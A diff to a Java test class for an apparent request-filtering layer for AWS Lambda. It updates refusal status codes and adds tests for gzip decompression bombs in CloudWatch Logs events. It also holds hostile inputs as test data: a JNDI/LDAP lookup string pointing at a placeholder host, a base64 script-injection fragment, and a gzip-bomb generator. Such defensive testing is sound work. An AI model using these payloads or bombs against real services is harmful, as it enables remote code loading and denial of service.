@@ -142,13 +142,13 @@ class HostileInputTest {
   // --- truncated base64 body ----------------------------------------------------------------------
 
   @Test
-  void truncatedBase64Body_undecodable_refusedAsMalformedWith403() throws IOException {
+  void truncatedBase64Body_undecodable_refusedAsMalformedWith400() throws IOException {
     ObjectNode e = rest();
     e.put("isBase64Encoded", true);
     e.put("body", "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0P"); // 33 characters: a dangling sextet
     Outcome o = stream(JSON.writeValueAsBytes(e), Map.of());
     assertThat(o.passed()).isFalse();
-    assertThat(status(o)).isEqualTo(403);
+    assertThat(status(o)).isEqualTo(400);
     assertThat(rules()).containsExactly("limit-exceeded/malformed-body");
   }
 
@@ -205,12 +205,12 @@ class HostileInputTest {
   // --- 10 MB body ----------------------------------------------------------------------------------
 
   @Test
-  void tenMegabyteBody_defaultPolicy_refusedWith403ForSize() throws IOException {
+  void tenMegabyteBody_defaultPolicy_refusedWith413ForSize() throws IOException {
     ObjectNode e = rest();
     e.put("body", "a".repeat(10 * MB));
     Outcome o = stream(JSON.writeValueAsBytes(e), Map.of());
     assertThat(o.passed()).isFalse();
-    assertThat(status(o)).isEqualTo(403);
+    assertThat(status(o)).isEqualTo(413);
     assertThat(rules()).containsExactly("limit-exceeded/max-bytes");
   }
 
@@ -304,14 +304,14 @@ class HostileInputTest {
   // --- huge headers -----------------------------------------------------------------------------------
 
   @Test
-  void twentyThousandHeaders_refusedAtMaxFieldsWith403() throws IOException {
+  void twentyThousandHeaders_refusedAtMaxFieldsWith413() throws IOException {
     ObjectNode e = rest();
     ObjectNode headers = (ObjectNode) e.get("headers");
     for (int i = 0; i < 20_000; i++) {
       headers.put("X-H" + i, "v" + i);
     }
     Outcome o = stream(JSON.writeValueAsBytes(e), Map.of());
-    assertThat(status(o)).isEqualTo(403);
+    assertThat(status(o)).isEqualTo(413);
     assertThat(rules()).containsExactly("limit-exceeded/max-fields");
   }
 
@@ -328,7 +328,7 @@ class HostileInputTest {
       return new APIGatewayProxyResponseEvent().withStatusCode(200);
     };
     APIGatewayProxyResponseEvent refused = builder(Map.of()).protect(user).handleRequest(e, ctx);
-    assertThat(refused.getStatusCode()).isEqualTo(403);
+    assertThat(refused.getStatusCode()).isEqualTo(413);
     assertThat(seen.get()).isNull();
     APIGatewayProxyResponseEvent passed = builder(MONITOR_LIMITS).protect(user).handleRequest(e, ctx);
     assertThat(passed.getStatusCode()).isEqualTo(200);
@@ -336,5 +336,83 @@ class HostileInputTest {
     assertThat(e.getHeaders().get("X-Big")).hasSize(MB);
     assertThat(sink.ofKind(SecurityEvent.FINDING)).extracting(SecurityEvent::finding).extracting(Finding::rule)
         .containsExactly("value-too-long", "value-too-long");
+  }
+
+  // --- compressed bombs in CloudWatch Logs payloads ---------------------------------------------------
+
+  /** A CloudWatch Logs subscription event whose {@code awslogs.data} is base64(gzip(payload)). */
+  private static byte[] cloudWatchLogs(byte[] gzipped) throws IOException {
+    ObjectNode e = JSON.createObjectNode();
+    e.putObject("awslogs").put("data", java.util.Base64.getEncoder().encodeToString(gzipped));
+    return JSON.writeValueAsBytes(e);
+  }
+
+  private static byte[] gzip(byte[] data) throws IOException {
+    ByteArrayOutputStream out = new ByteArrayOutputStream();
+    try (java.util.zip.GZIPOutputStream gz = new java.util.zip.GZIPOutputStream(out)) {
+      gz.write(data);
+    }
+    return out.toByteArray();
+  }
+
+  /** gzip of {@code size} blanks, written in chunks so the test itself stays small in memory. */
+  private static byte[] gzipBomb(long size) throws IOException {
+    ByteArrayOutputStream out = new ByteArrayOutputStream();
+    byte[] chunk = new byte[MB];
+    java.util.Arrays.fill(chunk, (byte) ' ');
+    try (java.util.zip.GZIPOutputStream gz = new java.util.zip.GZIPOutputStream(out)) {
+      gz.write("{\"logEvents\":[{\"message\":\"".getBytes(StandardCharsets.UTF_8));
+      for (long w = 0; w < size; w += chunk.length) {
+        gz.write(chunk);
+      }
+      gz.write("\"}]}".getBytes(StandardCharsets.UTF_8));
+    }
+    return out.toByteArray();
+  }
+
+  @Test
+  void cloudWatchLogsGzipBomb_inflationStopsAtLimitAndRefuses() throws IOException {
+    byte[] event = cloudWatchLogs(gzipBomb(256L * MB)); // ~250 KB that inflates to 256 MB
+    assertThat(event.length).isLessThan(MB);
+    Outcome o = stream(event, Map.of()); // the allocation backstop (64 x event + 256 MB) fails if it inflated everything
+    assertThat(o.passed()).isFalse();
+    assertThat(o.blockedException()).isTrue();
+    assertThat(rules()).containsExactly("limit-exceeded/decompressed-size");
+  }
+
+  @Test
+  void cloudWatchLogsGzipBomb_monitorPolicy_passesByteIdentical() throws IOException {
+    byte[] event = cloudWatchLogs(gzipBomb(64L * MB));
+    Outcome o = stream(event, MONITOR_LIMITS);
+    assertPassedUnchanged(o, event);
+    assertThat(rules()).containsExactly("limit-exceeded/decompressed-size");
+  }
+
+  @Test
+  void cloudWatchLogsNestedGzip_innerLayerNotInflatedAndPassesUnchanged() throws IOException {
+    // gzip inside gzip: the outer layer inflates to binary, which is not text, so it is recorded
+    // as skipped and never inflated again; a second layer cannot multiply the bomb.
+    byte[] event = cloudWatchLogs(gzip(gzipBomb(64L * MB)));
+    Outcome o = stream(event, Map.of());
+    assertPassedUnchanged(o, event);
+    assertThat(rules()).isEmpty();
+  }
+
+  @Test
+  void cloudWatchLogsTruncatedGzip_refusedAsMalformed() throws IOException {
+    byte[] gz = gzip("{\"logEvents\":[{\"message\":\"hello\"}]}".getBytes(StandardCharsets.UTF_8));
+    byte[] event = cloudWatchLogs(java.util.Arrays.copyOf(gz, gz.length / 2));
+    Outcome o = stream(event, Map.of());
+    assertThat(o.blockedException()).isTrue();
+    assertThat(rules()).containsExactly("limit-exceeded/malformed-body");
+  }
+
+  @Test
+  void cloudWatchLogsAttackInMessage_detected() throws IOException {
+    byte[] event = cloudWatchLogs(gzip("{\"logEvents\":[{\"id\":\"1\",\"message\":\"GET /?q=${jndi:ldap://x.example/a}\"}]}"
+        .getBytes(StandardCharsets.UTF_8)));
+    Outcome o = stream(event, Map.of());
+    assertThat(o.blockedException()).isTrue();
+    assertThat(rules()).anyMatch(r -> r.startsWith("jndi/"));
   }
 }
